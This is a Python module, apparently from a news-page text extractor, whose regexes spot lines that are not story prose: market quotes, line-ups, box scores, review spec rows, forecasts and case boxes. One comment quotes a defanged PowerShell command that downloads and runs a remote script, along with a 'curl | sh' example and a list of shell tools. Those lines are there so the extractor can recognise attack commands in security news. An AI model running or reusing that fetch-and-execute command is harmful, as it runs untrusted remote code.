"""The numbers desks' figures set as lines of their own (:func:`is_figures_line`): a markets page's quote
widget, a currency note, a columnist's disclaimer, a match report's line-ups, its box of match facts and a box
score's rows; and the consumer desks' boxes in a review: its spec rows, its price and score, its pros and cons,
its box's headings and a deals widget's rows. Each is the page's table or note between or under the story's
paragraphs, never a sentence of the story: the summary had taken "Infosys Ltd. 1,587.40 +61.20 (+4.01%)." and a
team's eleven names for news, and the cleaned text had kept them. A sentence of the story that quotes a price,
gives a score or names a scorer has verbs and running words, and stays."""

from __future__ import annotations

import re

# A quote widget's row between a markets story's paragraphs (Benzinga's "TSLA 248.31 +2.14%", The Economic
# Times's "Infosys Ltd. 1,587.40 +61.20 (+4.01%)", Handelsblatt's "Deutsche Bank 17,84 EUR +4,02 %", Les
# Echos's "LVMH 612,30 € +1,45 %"): the company's name or ticker in five words at most, the price, its
# currency or none, and the signed change, in points and per cent or in either. The story's sentence on a
# price has words between the figures ("Shares closed at 248.31, up 2.14%."). The name's words are capitalised
# and the price has its cents: a poll's row ("Reform UK 29 +2%") and a headline's verb ("Apple fell 3.2 -1.7%")
# are the story's.
_QUOTE_ROW = re.compile(
    r"(?P<name>[^\W\d_][\w.&'’-]*+(?: [^\W\d_][\w.&'’-]*+){0,4}+) \d{1,3}+(?:[.,]\d{3})*+[.,]\d{2,4}+"
    r"(?: ?(?:[A-Z]{3}|[€$£¥]))?+"
    r" [+−-]\d[\d.,]*+(?: ?%| \([+−-]\d[\d.,]*+ ?%\))"
)
_QUOTE_ROW_MAX_CHARACTERS = 80
# The most cells of a box's row set as a table's (:func:`_is_box_table_row`): its label's and its value's.
_BOX_TABLE_CELLS = 2
# A poll's or a results box's row as a page's table sets it, a choice's label in a cell and its share alone in
# the next ("| Not sure | 8% |", "| AfD | 34 % |"): the label of a few words, opening on a capital, no figure.
_SHARE_CELL = re.compile(r"\d{1,3}(?:[.,]\d{1,2})? ?%")
_SHARE_LABEL_MAX_WORDS = 5
# A wire's currency note alone on its line under a figure it converts (Breakingviews's "($1 = 0.9231
# euros)", Nikkei Asia's "($1 = 154.6 yen)"): one unit of a currency and its rate, in brackets.
_CURRENCY_NOTE = re.compile(
    r"\((?:[$€£¥]|US\$|1 [^\W\d_]{2,12}+ ?)1? ?= ?[$€£¥]?\d[\d.,]*+(?: [^\W\d_)]{1,12}+){1,2}\)"
)
# An earnings table's caption, the company's name and the table's unit in brackets (Nikkei Asia's "Toyota
# Motor (in billions of yen)"): its rows, parted by bars, go as a table's; the caption had stayed alone.
_TABLE_CAPTION = re.compile(
    r"[^\W\d_][\w.&'’ -]{0,60} \((?:in |en |in (?:mio|mrd)\.? )?(?:(?:b|m|tr)illions?|thousands?|millions|milliards)"
    r" (?:of |d['’]|de )[\w$€£¥ .]{1,20}+\)"
)
# A data provider's notice under a markets story (Les Echos's "Données de marché fournies par Six Financial
# Information. Cours différés de 15 minutes.", "Market data provided by ..."): the provider's name, and the
# quotes' delay after it or nothing (alone, the delay is :data:`nutgraf.extract.text.furniture._CLOSING_NOTICE`'s).
# The provider is a name, its words capitalised (:func:`_is_a_name`): a story's sentence on market data
# ("Market data provided by exchanges costs brokers billions a year.") runs on in lower-case words.
_DATA_PROVIDER = re.compile(
    r"(?:(?:market|stock|financial) (?:news and )?(?:data|quotes)|données de marché|marktdaten|datos de mercado"
    r"|dati di mercato)(?: (?:is|are))? (?:provided|powered|supplied|brought to you|fournies|fournis|bereitgestellt"
    r"|proporcionados|forniti) (?:by|par|von|por|da) (?P<provider>[^.!?]{1,60})\.(?: [^.!?\d]{0,30}\d{1,2} min[^.!?]{0,20}\.)?",
    re.IGNORECASE,
)
# The short words a provider's or a team's name may hold in lower case ("Bank of America", "Real Madrid de ...").
_NAME_JOINERS = frozenset(
    ("of", "the", "and", "&", "de", "du", "des", "del", "la", "le", "et", "und", "y", "e", "di")
)
# A markets site's advertisement for its own terminal over or under the story (Bloomberg's "Before it's
# here, it's on the Bloomberg Terminal.").
_TERMINAL_AD = re.compile(r"before it['’]s here,? it['’]s on the [\w ]{1,30}? terminal\.?")
# A sports page's pointer to its live blog (talkSPORT's "Follow our live transfer blog for all the latest
# news and rumours", L'Équipe's "Suivez le direct mercato"), the line whole, no comma saying who urged it.
_LIVE_BLOG_CALL = re.compile(
    r"(?:follow|read|join) (?:our|the) live (?:[\w-]{1,20}+ ){0,2}?(?:blog|coverage|updates)\b[^.!?,]{0,80}[.!]?"
    r"|(?:suivez|sigue|segui|siga) (?:notre|le|nuestro|el|il|nostro|o nosso|o) (?:direct|directo|diretta|live"
    r"|minuto a minuto)\b[^.!?,]{0,40}[.!]?"
)
# A league table's row and its heading (L'Équipe's "Classement Ligue 1" over "1. PSG 36 pts"): the place, the
# club in four words at most, capitalised, and its points, labelled; the heading one of the tables' words and the league's
# name, capitalised (:func:`_is_a_name`): a headline's verb after it ("Standings tighten at top", "Tabelle zeigt
# Bayern vorn") is a story's. A story about a table says so in a sentence.
_TABLE_ROW = re.compile(
    r"\d{1,2}\.? (?P<club>[^\W\d_][\w.'’&-]*+(?: [^\W\d_][\w.'’&-]*+){0,3}+) \d{1,3} (?:pts|points|pt|punti|Pkt\.)"
)
_TABLE_ROW_ENDS = ("pts", "points", "pt", "punti", "Pkt.")
_TABLE_HEADING = re.compile(
    r"(?:classement|classifica|clasificación|tabelle|standings)(?: [\w-]{1,20}+){0,3}+"
)
_TABLE_ROW_MAX_CHARACTERS = 60
# The first characters of a data provider's notice, a terminal's advert, a live blog's pointer and a table's
# heading: a line that opens on none is spared their patterns.
_OPENING_CHARACTERS = 4
# A wine column's tasting row (the twenty-fourth outlets round's Irish News's "2022 Ch. Roc de Bourg, Côtes de
# Bourg, £14, Waitrose"): the vintage, the wine and its region between commas, its price a comma-part of its
# own, the shop after it or none, the line whole with no stop; a sentence opening on a year goes on in words
# ("2022 was the hottest vintage on record, and a bottle now costs £14.").
_FIRST_VINTAGE = 1990
_LAST_VINTAGE = 2030
_TASTING_ROW = re.compile(
    r"\d{4} [^,]{1,60}(?:, [^,£$€]{1,60}){0,3}, [£$€]\d{1,4}(?:[.,]\d{2})?(?:, [^,.!?]{1,40})?"
)
_TASTING_ROW_MAX_CHARACTERS = 140
# A security desk's command line set between the story's paragraphs, as the attack or the fix runs it
# (BleepingComputer's 'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"', "curl -fsSL https://... |
# sh", "mshta.exe hxxps://..."): a shell's program in lower case, a switch after it ("-w", "/c", "--rm") or an
# address, and no stop closing the line, and an address defanged in it ("hxxps://", "cdn-verify[.]com"): the
# desk's sign that the line is an attack's, not one for its reader to run. Code, which no summary reads as a
# sentence; the story's sentence about the command opens on a capital and runs on in words ("PowerShell then
# downloads a script ..."). Not a how-to's or a release note's command, which the reader came for ("curl -sSL
# https://install.python-poetry.org | python3 -", "sudo apt-get -y install ffmpeg", "npm install
# tidepool@3.2": a page of the extraction bench's gold keeps the last).
_COMMANDS = (
    "powershell", "pwsh", "cmd", "curl", "wget", "iwr", "iex", "mshta", "rundll32", "regsvr32", "certutil",
    "bitsadmin", "msiexec", "sudo", "bash", "chmod", "git", "npm", "pip", "pip3", "apt", "apt-get", "brew",
    "docker", "kubectl",
)  # fmt: skip
_COMMAND_LINE = re.compile(
    rf"(?:sudo )?(?:{'|'.join(_COMMANDS)})(?:\.exe)? (?:(?:-{{1,2}}|/)[a-z]|h(?:tt|xx)ps?://)[^\n]*+"
)
_COMMAND_LINE_MAX_CHARACTERS = 400
_OPENINGS = frozenset(
    (
        "Mark", "Stoc", "Fina", "Donn", "Dato", "Dati", "Befo", "Foll", "Read", "Join", "Suiv", "Sigu", "Segu",
        "Siga", "Clas", "Tabe", "Stan", "At t", "Unti", "Cert", "Rate", "In c", "In U", "In I",
        # A command line's programs (:data:`_COMMAND_LINE`), lower case as a shell takes them.
        *(f"{command}{after}"[:_OPENING_CHARACTERS] for command in _COMMANDS for after in " ."),
        # A wine column's vintages (:data:`_TASTING_ROW`), a line of prose seldom opening on a year.
        *map(str, range(_FIRST_VINTAGE, _LAST_VINTAGE + 1)),
    )
)  # fmt: skip
# A columnist's disclaimer under the column (Breakingviews's "The author is a Reuters Breakingviews
# columnist. The opinions expressed are their own."), the writer's description before it or none; a source's
# words on its own opinions are quoted and say whose ("..., the minister said.").
_OPINIONS_OWN = re.compile(
    r"(?:the (?:author|writer) is an? [^.!?]{1,80}\. )?(?:the )?(?:opinions|views) expressed"
    r"(?: (?:here|in this (?:article|column|piece)))? are (?:their|his|her|my|the author['’]s|the writer['’]s) own\."
)
# A match report's line-up (The Athletic's "Aston Villa (4-2-3-1): Martinez; Cash, Konsa, ...", Marca's "3 - Real
# Madrid: Courtois; Carvajal, ... y Vinícius.", kicker's "Aufstellung Borussia Dortmund: Kobel - Ryerson, Anton,
# ..."): the team's label before a colon, marked as a match's by its formation in brackets, the team's score
# before it or a line-up's word, then eleven names at least, parted by semicolons between the lines of the
# formation (or by dashes) and commas within them, each of three words at most, capitalised. A team-news
# story's side under a bare label ("Sunderland: Patterson; Hume, ...", the Northern Echo's; Leinster's) is
# that story's news, as the thirteenth round left it.
_LINE_UP_LABEL_CHARACTERS = 60
_LINE_UP_NAMES = 10
_LINE_UP_NAME_WORDS = 3
_FORMATION = re.compile(r"\(\d(?:-\d){2,3}\)")
_LINE_UP_WORDS = ("aufstellung", "alineación", "formazione", "composition", "line-up", "lineup", "opstelling")
_SCORE_BEFORE_TEAM = re.compile(r"\d{1,2} [-–] ")
_LINE_UP_PARTING = re.compile(r" - |;|,| (?:y|e|and|und|et|en|og|och) ")
# A match report's box of facts, the label and its colon opening the line (Marca's "Goles:", "Árbitro:",
# "Incidencias:", La Gazzetta's "Marcatori:", "Ammoniti:", "Classifica:", kicker's "Schiedsrichter:",
# "Zuschauer:"), in the other languages nutgraf stems (English boxes' labels, "Referee:", "Attendance:", are
# :mod:`.particulars`' and :mod:`.span`'s, older than these); and the box's heading alone on its line ("Ficha técnica",
# "Il tabellino", "Opta facts"). A line of the box is a list of names and figures, not a paragraph. "Teams"
# heads a team-news story's sides as well (the thirteenth round's page, whose text keeps it), so is no box's.
_MATCH_FACT_LABELS = frozenset(
    (
        "goles", "árbitro", "arbitro", "incidencias", "tarjetas", "marcatori", "ammoniti", "espulsi",
        "classifica", "spettatori", "schiedsrichter", "zuschauer", "gelbe karten", "rote karten", "arbitre",
        "avertissements", "spectateurs",
    )
)  # fmt: skip
_MATCH_FACTS_MAX_CHARACTERS = 400
_HEADING_MAX_CHARACTERS = 40
_MATCH_FACTS_HEADINGS = frozenset(
    (
        "ficha técnica", "il tabellino", "tabellino", "opta facts", "opta stats", "match facts", "line-ups",
        "lineups", "aufstellungen", "la fiche technique", "fiche technique", "les compositions",
    )
)  # fmt: skip
# A box score's row (the AP's "Gordon 5-11 2-2 13, Porter Jr. 3-8 0-0 8, ..."): a player's field goals and
# free throws made and tried, then the points, two such at least on the line, each closed by a comma or the
# line's end, the line by no stop. A tennis story's sets ("beat Becker 6-4 6-1 6-2, while ...") close on a
# score, and its paragraph on a stop.
_BOX_SCORE_ENTRY = re.compile(
    r"(?<![\w.'’-])[^\W\d_][\w.'’-]*+ \d{1,2}-\d{1,2} \d{1,2}-\d{1,2} \d{1,3}(?:,|$)"
)
_BOX_SCORE_ENTRIES = 2
# A box score's columns, as its table's heading names them.
_BOX_SCORE_COLUMNS = frozenset("FG FGA FT FTA 3PT 3PM PTS REB OREB DREB AST STL BLK TO PF MIN".split())
_BOX_SCORE_MAX_CHARACTERS = 400
# A review's spec box and its price and score rows, the label and its colon opening the line (TechRadar's
# "Display: 6.3in OLED, 120Hz", "Price when reviewed: $799", Numerama's "Processeur : Snapdragon 8s Gen 4",
# Xataka's "Pantalla: 6,3 pulgadas AMOLED, 120 Hz"): a label of the box's, then a value that opens on no
# lower-case word and ends no sentence. A story's run-in label over a sentence ("Price: the council says
# ...", "Battery: The company recalled ... phones.") opens in lower case or ends on its stop.
_SPEC_LABELS = frozenset(
    (
        "display", "screen", "chipset", "processor", "cpu", "ram", "memory", "storage", "battery", "charging",
        "camera", "cameras", "rear cameras", "rear camera", "front camera", "main camera", "os",
        "operating system", "dimensions", "weight", "connectivity", "colors", "colours", "price",
        "price when reviewed", "rrp", "msrp", "écran", "processeur", "puce", "mémoire", "stockage",
        "batterie", "appareil photo", "poids", "prix", "pantalla", "procesador", "memoria", "almacenamiento",
        "batería", "cámara", "cámaras", "peso", "precio", "bildschirm", "prozessor", "speicher", "akku",
        "kamera", "gewicht", "preis",
    )
)  # fmt: skip
# The service desks' boxes (the twenty-fourth outlets round), a figure in the value's first words as a spec's:
# a car review's spec box (Auto Express's "Engine: 1.5-litre 4cyl turbo petrol", "Power: 150bhp", "0-62mph:
# 8.9sec"), a recall's box ("VIN range: ...", "Batch code: P-3210 KL 2611", "Best before: 12/12/2026"), a
# listing's (the Abendblatt's "Kaltmiete: 1.180 Euro", "Baujahr: 1958"), a restaurant's info box ("Address: 809
# W. Randolph St., Chicago", "Hours: Tue-Sun 5-10 p.m."), a church's times ("Mass times: Saturday 6pm (Vigil);
# ...") and a market report's prices ("Prime lambs: 284p/kg (+9p)"). Their labels are the kickers of other
# desks' headlines too, a figure first ("Power: 3 million without electricity after storm", "Economy: UK grew
# 0.1% in October"): a headline's value holds a word of its grammar (:data:`_HEADLINE_GRAMMAR_WORDS`).
_SERVICE_SPEC_LABELS = frozenset(
    (
        "engine", "power", "torque", "0-62mph", "0-60mph", "0-100km/h", "top speed", "economy", "fuel economy",
        "co2", "co2 emissions", "on sale", "recall number", "vin range", "models", "model years", "best before",
        "use by", "batch code", "lot number", "establishment number", "kaltmiete", "warmmiete", "nebenkosten",
        "wohnfläche", "zimmer", "baujahr", "habitaciones", "baños", "superficie", "beds", "baths", "address",
        "hours", "opening hours", "mass times",
        "service times", "prime lambs", "store lambs", "cull ewes", "store cattle", "prime cattle", "beef cows",
        "steers", "heifers", "young bulls", "feed wheat", "feed barley", "milling wheat", "oilseed rape",
    )
)  # fmt: skip
_SPEC_LABELS |= _SERVICE_SPEC_LABELS
# A headline's articles, prepositions and verbs of being, which a box's value of names, figures and units does
# without ("10am to 3pm" and "9am, 11am and 6pm" are a box's joiners): "Models: 10 looks from Paris Fashion
# Week", "Zimmer: 3 Tipps für mehr Ordnung", "Superficie: 20% du territoire en zone inondable".
_HEADLINE_GRAMMAR_WORDS = frozenset(
    (
        "a", "an", "the", "after", "as", "at", "by", "for", "from", "in", "into", "near", "of", "on", "over",
        "with", "without", "is", "are", "was", "were", "will", "must", "say", "says", "said", "than", "für", "mit", "nach",
        "bei", "ist", "sind", "wird", "du", "des", "en", "pour", "avec", "dans", "est", "para", "con", "por",
    )
)  # fmt: skip
# The labels over a service desk's hours, whose value ends on the evening's abbreviation ("Hours: Tue-Sun 5-10
# p.m."), not a sentence's stop.
_HOURS_LABELS = frozenset(("hours", "opening hours", "mass times", "service times"))
# A review's score under its label ("Rating: 4.5 out of 5 stars", "Note : 8/10"): a figure after the label, as
# a note to the reader ("Note: The story was updated ...") has none. A car review's verdict too ("Verdict: 4/5",
# Auto Express's); a court's ("Verdict: guilty") has no figure.
_SCORE_LABELS = frozenset(
    ("rating", "our rating", "score", "note", "nota", "wertung", "bewertung", "verdict")
)
# A rating in a word under its label, a quote widget's (Benzinga's "Overview Rating: Good" under "TSLA 248.31
# +2.14%") or an analysts' ("Consensus Rating: Buy"): the verdict's word the value whole, as a note's sentence
# ("Rating: Good news for savers, the agency said") goes on past it.
# And a school's inspection grade under its label (Schools Week's "Ofsted rating: Good"), a story's sentence on
# the grade going on past the word ("Ofsted rating: Good news for the school, the head said").
_RATING_LABELS = frozenset(
    (
        "rating", "our rating", "overview rating", "analyst rating", "consensus rating", "ofsted rating",
        "ofsted grade", "inspection rating",
    )
)  # fmt: skip
_RATING_VERDICTS = frozenset(
    (
        "good", "very good", "poor", "excellent", "average", "speculative", "neutral", "buy", "strong buy",
        "sell", "strong sell", "hold", "outperform", "underperform", "overweight", "underweight",
        "outstanding", "requires improvement", "inadequate",
    )
)  # fmt: skip
# The score itself, the value whole: a note's sentence that opens on a figure ("Note: 20 people were injured
# in the blast") goes on in words, a match's score ("Score: 3-1 to Arsenal") is a result's.
_SCORE = re.compile(
    r"\d{1,3}(?:[.,]\d{1,2})? ?(?:/ ?\d{1,3}|(?:out of|sur|von|de|of) \d{1,3})?(?: (?:stars?|étoiles|estrellas|sterne))?"
)
_SPEC_ROW_MAX_CHARACTERS = 100
# A spec row's value in a word, a car's sale date ("On sale: now"), and a price band's signs ("Price: $$").
_SPEC_WORD_VALUES = frozenset(("now", "tba", "tbc", "later"))
_PRICE_BAND = "$£€"
# The evening's abbreviation an hours' row ends on (:data:`_HOURS_LABELS`), no sentence's stop.
_HOURS_ENDS = ("a.m.", "p.m.")
# A politics desk's candidate box, a row a line (the Oregonian's "Age: 54", "Party: Democrat", "Occupation:
# Small business owner, former city commissioner", "Residence: Foster-Powell"): the label, then a value of a few
# words that opens on no lower-case word and ends no sentence, as a review's spec rows do; the age a figure. A
# story's run-in label over a sentence ("Party: the Democrats' new chair promises ...") opens in lower case.
_CANDIDATE_LABELS = frozenset(
    (
        "age", "party", "occupation", "residence", "hometown", "profession", "âge", "parti",
        "alter", "partei", "beruf", "wohnort", "edad", "partido", "profesión", "età", "partito", "professione",
    )
)  # fmt: skip
_CANDIDATE_VALUE_MAX_WORDS = 8
# A headline in title case under the label runs on past a job's few words, its joiners in lower case.
_HEADLINE_VALUE_MIN_WORDS = 5
_TITLE_CASE_JOINERS = _NAME_JOINERS | frozenset(
    ("in", "on", "at", "to", "for", "a", "an", "as", "by", "with", "over")
)
# A headline's verb in title case ("West Bank Settlers Attack Villages", "Tenants Win Fight Over Eviction
# Notices"), as a sentence's in a caption or a forecast's day ("High winds are expected to close the bridge"): a
# box's value is a noun phrase, a job, a home or a reading, with none of them ("Retired Oregon State Police
# Captain", "Chief Executive Officer of Acme Corp"). The auxiliaries, and the verbs a desk's headlines and
# captions report with, in their forms; no base form that is also a name's or a job's noun ("Open Door Bakery",
# "Get Out The Vote", "Lead", "Back").
SENTENCE_VERBS = frozenset(
    (
        "is", "are", "was", "were", "will", "would", "could", "has", "have", "had", "expected", "says", "said",
        "shows", "showed", "finds", "found", "win", "wins", "won", "attack", "attacks", "attacked", "beats",
        "lose", "loses", "lost", "bans", "banned", "face", "faces", "votes", "voted", "plans", "planned", "warn",
        "warns", "warned", "urge", "urges", "urged", "seek", "seeks", "sought", "reject", "rejects", "rejected",
        "approve", "approves", "approved", "backs", "backed", "cuts", "kills", "killed", "announces", "announced",
        "surges", "surged", "falls", "fell", "rises", "rose",
    )
)  # fmt: skip
# A headline's verb that names a place in a candidate's home ("Idaho Falls", "Klamath Falls", "Rose City"); a
# verb's title-case form right after a joiner names a business or a cause ("Director of Planned Parenthood",
# "Co-Founder of Lost Coast Brewery"), not a headline's subject doing something.
_NAMES_OF_PLACES = frozenset(("falls", "rose"))
_AGE_LABELS = frozenset(("age", "âge", "alter", "edad", "età"))
# A party's name is a few words ("Democrat", "Reform UK", "La France insoumise"); a cross-head's headline after
# the label runs longer ("Party: Reform UK surges in new poll").
_PARTY_LABELS = frozenset(("party", "parti", "partei", "partido", "partito"))
_PARTY_MAX_WORDS = 4
# A travel story's practical box, a label a paragraph (Condé Nast Traveller's "Getting there: Norwegian flies
# from London Gatwick ...", "Where to stay: ...", Dove's "Come arrivare: in treno fino a Bari ...", "Dove
# dormire: ..."): the reader's directions, no summary sentence, though each runs on in sentences. The labels
# are the box's alone, a story's prose opens on none of them before a colon (not "When to go:", a cross-head's
# words too).
_PRACTICAL_LABELS = frozenset(
    (
        "getting there", "getting around", "where to stay", "where to eat", "where to eat and drink",
        "how to get there", "come arrivare", "dove dormire", "dove mangiare",
        "cómo llegar", "dónde dormir", "dónde comer", "y aller", "où dormir", "où manger", "anreise",
        "übernachtung", "unterkunft", "hoe kom je er", "overnachten", "waar slapen",
    )
)  # fmt: skip
# A row's directions run on in a sentence of five words or more; a stadium story's own box of directions under
# the label ("GETTING THERE: From I-70") is the story's.
_PRACTICAL_VALUE_MIN_SPACES = 4
# A news story's run-in under the label is a capitalised sentence of news, no figure in it, its verb one that
# reports, plans or decides ("Unterkunft: Flüchtlinge sollen in der Turnhalle untergebracht werden", "Anreise:
# Die Bahn streicht ..."); a row's directions say how a reader travels and sleeps, their verbs "flies", "runs",
# "has" ("Getting there: Fly to Oslo, then take the ferry."), a figure often (a fare, a time: "4 Std."). No
# auxiliary is one ("wird", "will"): a row says "A taxi will take about twenty minutes", "Der Flughafen wird
# täglich angeflogen".
_PRACTICAL_FIGURE = re.compile(r"[\d£$€]")
_NEWS_VERBS = frozenset(
    (
        "soll", "sollen", "wollen", "muss", "müssen", "plant", "planen", "streicht",
        "streichen", "verbietet", "verbieten", "fordert", "fordern", "warnt", "warnen", "sagt", "sagte",
        "angekündigt", "kündigt", "beschlossen", "beschließt", "says", "said", "plans", "warns",
        "warned", "announced", "announces", "bans", "banned", "cuts", "annonce", "annoncé", "veut", "doit",
        "prévoit", "annuncia", "annunciato", "vuole", "dovrà", "anuncia", "anunció", "quiere", "zegt", "moet",
        "zal", "kondigt",
    )
)  # fmt: skip
# A property desk's teaser of a listing, its label over the home's description in a sentence (the Liverpool
# Echo's "Property of the week: a four-bedroom Edwardian villa in Mossley Hill ..."), as a practical row's. A
# story's sentence under the label says who told it, in lower case and with a figure or not ("Property of the
# week: the £3m mansion that sold in a day, agents said."): a news verb in it keeps it.
_LISTING_TEASER_LABELS = frozenset(("property of the week", "home of the week", "house of the week"))
_PRACTICAL_LABELS |= _LISTING_TEASER_LABELS
# A German run-in in the perfect, the past or the future ("Anreise: Die Bahn hat im Winter die Hälfte der
# Verbindungen gestrichen", "Unterkunft: Die Turnhalle wurde zur Notunterkunft umgebaut"): an auxiliary and, last,
# its participle or infinitive in lower case, where German sets its nouns capitalised; what happened, news. The
# box's rows say what stands ("Das Hotel hat schöne Zimmer mit Blick auf den See.", a noun last) or runs to a
# timetable ("Der Flughafen wird täglich von Oslo aus angeflogen.", :data:`_STANDING_WORDS`).
_GERMAN_AUXILIARIES = frozenset("hat haben ist sind wird werden wurde wurden war waren".split())
# A participle with no "ge" has one of these before its stem ("eröffnet", "verlängert", "zerstört").
_INSEPARABLE_PREFIXES = ("be", "er", "ver", "zer", "ent")
_STANDING_WORDS = frozenset(
    "täglich stündlich wöchentlich ganzjährig regelmäßig mehrmals durchgehend jederzeit direkt".split()
)
# And with the space a French label sets before its colon ("Y aller : ...").
_PRACTICAL_LABELS |= frozenset(label + " " for label in _PRACTICAL_LABELS)
# A review's box headings (its pros and cons, its spec box's), alone on their lines; a product's name before
# the spec box's word ("Google Pixel 11 specs", "Ficha técnica del Xiaomi 16") or the site's before its
# verdict's ("TechRadar Verdict", capitalised: a court story's cross-head "The verdict" is the story's).
REVIEW_HEADINGS = frozenset(
    (
        "pros", "cons", "the good", "the bad", "les plus", "les moins", "points forts", "points faibles",
        "a favor", "en contra", "lo mejor", "lo peor", "vorteile", "nachteile", "specs", "specifications",
        "key specs", "spécifications", "technische daten",
        # A travel story's practical box's heading over its rows (Dove's "Info:", "Informazioni utili").
        "info:", "infos:", "infos :", "informazioni utili", "if you go", "if you go:",
    )
)  # fmt: skip
_REVIEW_HEADING_ENDS = (" specs", " specifications", " Verdict")
# The review site's heading over how it tests, its name the one word after it ("Why you can trust TechRadar"):
# a story's cross-head goes on ("Why you can trust the polls").
_TRUST_HEADING = "why you can trust "
_TRUST_HEADING_CHARACTERS = len(_TRUST_HEADING)
_REVIEW_HEADING_OPENINGS = (
    "ficha técnica del ", "ficha técnica de ", "fiche technique du ", "fiche technique de ",
    "technische daten des ", "technische daten der ",
    # A forecast's and a council agenda's headings over their rows (Nice-Matin's "Les prévisions pour jeudi",
    # De Gelderlander's "Agenda gemeenteraad 1 december").
    "les prévisions pour ", "agenda gemeenteraad", "agenda van de gemeenteraad",
)  # fmt: skip
# A deals widget's row (Engadget's "$199 at Amazon", "$249 at Apple"): a price and the shop's capitalised name,
# the line whole; a headline on the deal has a verb ("AirPods drop to $199 at Amazon").
_DEAL_ROW = re.compile(
    r"[$£€]\d[\d,]*+(?:\.\d{2})? (?:at|from) (?P<shop>[^\W\d_][\w&.'’-]*+(?: [\w&.'’-]++){0,3}+)"
)
_DEAL_ROW_MAX_CHARACTERS = 50
# The culture desks' lines about a review's subject (the twenty-second outlets round), each a line of its own:
# a book review's info line, its title by its author, then the publisher, the pages and the price in brackets
# closing it (The Spectator's "The Salt Road by Ana Ruiz (Faber, 320pp, £18.99)"); a sentence naming a book's
# publisher closes on its stop ("The book by Ana Ruiz (Faber, 2024) sold 40,000 copies.").
_BOOK_DETAILS = re.compile(
    r"\([^()]{1,60}?\b(?:\d{2,4} ?pp|pp\.? ?\d{2,4}|\d{2,4} (?:pages|Seiten|pagine|páginas))\b[^()]{0,40}\)"
)
_BOOK_LINE_MAX_CHARACTERS = 200
# A review's stars alone ("★★★★☆"), its rating row's value too ("Rating: ★★★★☆").
_STARS = "★☆✩✭½ "
# A theatre or concert review's run and tickets (The Stage's "At the Barbican until 5 January; tickets from
# £20", "Until 14 March at the Old Vic. Box office: 020 7928 2651"): where and until when, then the tickets or
# the box office after a stop or a semicolon; a story's sentence on the run goes on after its comma ("At the
# Barbican until 5 January, the show has sold 40,000 tickets.").
_RUN_LINE = re.compile(
    r"(?:at (?:the )?[^.,;!?]{1,60}? until|until [^.,;!?]{1,30}? at) [^.;!?]{1,40}?[;.] ?"
    # The tickets' price or the box office's number after them: a story's clause on the tickets goes on in words
    # ("At the Barbican until 5 January; tickets sold out in an hour, the theatre said.").
    r"(?:tickets?:? (?:from |cost |priced at )?[£$€]\d|box office:? \+?\d)[^!?]{0,60}",
    re.IGNORECASE,
)
_RUN_LINE_MAX_CHARACTERS = 160
# A film review's certificate and running time (Time Out's "Certificate 15, running time 1hr 52min"), and its
# release line ("In cinemas Fri Dec 11"): a sentence on a film's rating goes on ("Rated R for violence, the film
# ...", "In cinemas across the country, ...").
_FILM_DETAILS = re.compile(
    r"(?:certificate|cert\.?|rated) (?:u|pg|12a?|15|18|r|pg-13|nc-17)[,;.]? (?:running time:? |runtime:? )?"
    r"(?:\d{1,3} ?min(?:ute)?s?|\d ?hrs? ?\d{1,2} ?min(?:ute)?s?)\.?"
    r"|in (?:uk |us |irish )?cinemas (?:from |on )?(?:[^\W\d_]{3,9}\.? ){0,2}\d{1,2}(?:st|nd|rd|th)?(?: [^\W\d_]{3,9})?\.?",
    re.IGNORECASE,
)
# The run's and the film's openings, of :data:`_OPENINGS`'s four characters (a run opens "At the ...").
_CULTURE_OPENINGS = frozenset(("At t", "Unti", "Cert", "Rate", "In c", "In U", "In I"))
_FILM_DETAILS_MAX_CHARACTERS = 60
# The courts and emergencies desks' boxes (the twenty-third outlets round), a row a line, the label and its colon
# opening it: a sentencing story's case box (The Kansas City Star's "Case number: 2516-CR01234", "Charges:
# Second-degree murder; armed criminal action", "Judge: Jalilah Otto, Jackson County Circuit Court", "Sentence:
# Life in prison plus 30 years"), a wildfire's or a storm's ("Containment: 35%", "Power outage map: Check DTE's
# outage map here") and an evacuation order's zones ("Zone A: Marco Island, Goodland, ..."). As the match
# facts' rows, the value opens on no lower-case word, and it ends no sentence: a cross-head's run-in label
# ("Judge: the ruling stands") opens in lower case, a sentence naming a judge ("Judge Jalilah Otto said ...")
# or a fire's containment ("Containment of the fire reached 35% ...") has no colon after the word.
_DESK_BOX_LABELS = frozenset(
    (
        "case number", "case no.", "case no", "docket number", "charges", "charge", "judge", "sentence",
        "containment", "acres burned", "structures destroyed", "evacuation orders", "evacuation warnings",
        "power outage map", "outage map", "zone a", "zone b", "zone c", "zone d", "zone e",
    )
)  # fmt: skip
# A recall's product row and a restaurant's bookings row (the twenty-fourth round's Food Safety News's "Product:
# Klement's Polish Style Smoked Sausage, 14-oz. vacuum packs", Eater's "Reservations: Resy, or walk in at the
# counter"), a list's comma in the value; a car review's rivals (Auto Express's "Rivals: Nissan Qashqai, Kia
# Sportage, Volkswagen Tiguan"), a school's term dates and open day, a figure in them if not in their first
# words ("Term dates: Spring term starts Monday 5 January 2027"). Other desks' headlines stand under these
# labels with a figure or a comma ("Open day: 5 things to ask a university", "Bookings: Hotels report 20% fall
# in Christmas stays"): a word of a headline's grammar before the value's first comma says so.
_SERVICE_DESK_BOX_LABELS = frozenset(
    (
        "product",
        "products",
        "reservations",
        "bookings",
        "rivals",
        "term dates",
        "läsårstider",
        "open day",
        "open days",
    )
)
_DESK_BOX_LABELS |= _SERVICE_DESK_BOX_LABELS
# A weather desk's forecast rows, a day's label before its high and low ("Today: High 38, Low 24. Clouds
# increasing."), or a town's before its temperatures (Nice-Matin's "Nice : 14°C / 11°C, pluie forte"); a story
# about a forecast says it in a sentence ("Today's forecast high of 45 would break the record ...").
_FORECAST_DAYS = frozenset(
    (
        "today", "tonight", "tomorrow", "overnight", "this afternoon", "this evening", "monday", "tuesday",
        "wednesday", "thursday", "friday", "saturday", "sunday",
    )
)  # fmt: skip
_FORECAST_VALUES = ("High ", "Low ", "high ", "low ")
# Where a forecast's reading ends and its outlook begins: a comma, a semicolon, a stop, or a joiner.
_FORECAST_OUTLOOK = re.compile(r"[,;]|\. | (?:with|and|as|but|then|while) ")
_TEMPERATURES = re.compile(r"-?\d{1,2} ?°[CF]? ?/ ?-?\d{1,2} ?°[CF]?(?:, [^.!?]{1,40})?")
# A closings list's rows, a school's or a road's name before what became of it ("Royal Oak Schools: Closed",
# "Oakland University: Delayed 2 hours", "Northbound I-75 at 12 Mile Road: closed for downed wires", "Southbound
